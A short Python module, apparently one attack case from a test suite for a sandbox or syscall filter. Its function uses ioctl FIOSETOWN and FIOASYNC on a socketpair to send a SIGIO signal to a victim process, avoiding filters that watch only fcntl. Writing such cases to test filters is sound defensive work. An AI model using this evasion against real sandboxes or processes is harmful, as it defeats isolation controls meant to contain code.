"""The same as by fcntl, by calls that filters of fcntl do not see."""

import fcntl
import os
import socket
import struct

FIOASYNC, FIOSETOWN = 0x5452, 0x8901


def attack(world):
    reader, writer = socket.socketpair()
    fcntl.ioctl(reader, FIOSETOWN, struct.pack("i", world["victim_pid"]))
    fcntl.ioctl(reader, FIOASYNC, struct.pack("i", 1))
    os.write(writer.fileno(), b"now")
